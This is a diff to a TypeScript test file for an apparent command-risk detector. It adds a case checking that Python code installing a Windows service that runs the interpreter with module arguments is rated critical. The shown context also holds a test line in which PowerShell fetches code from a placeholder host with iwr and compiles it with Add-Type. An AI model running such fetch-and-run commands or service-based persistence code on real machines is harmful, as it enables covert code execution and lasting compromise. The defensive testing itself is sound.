@@ -39,3 +39,10 @@ test.each(['powershell -Command Add-Type -TypeDefinition (iwr https://o.example.
 test.each(['powershell -Command Add-Type -AssemblyName System.Windows.Forms', "powershell -c [Reflection.Assembly]::Load('System.Web')"])('what lies here does not: %s', (line) => {
   expect(commandTraits(line)).not.toContain('fetches-and-runs');
 });
+
+const made = (words: string): string => `import sys, win32serviceutil\nwin32serviceutil.InstallService(None, "Garden", "Garden", exeName=sys.executable${words})\n`;
+
+test('a service that starts the program which makes it, and tells it nothing, is that of a packed program; with words for it, it is one of somebody else', async () => {
+  expect(await severities(made(''))).not.toContain('critical');
+  expect(await severities(made(', exeArgs="-m garden"'))).toContain('critical');
+});
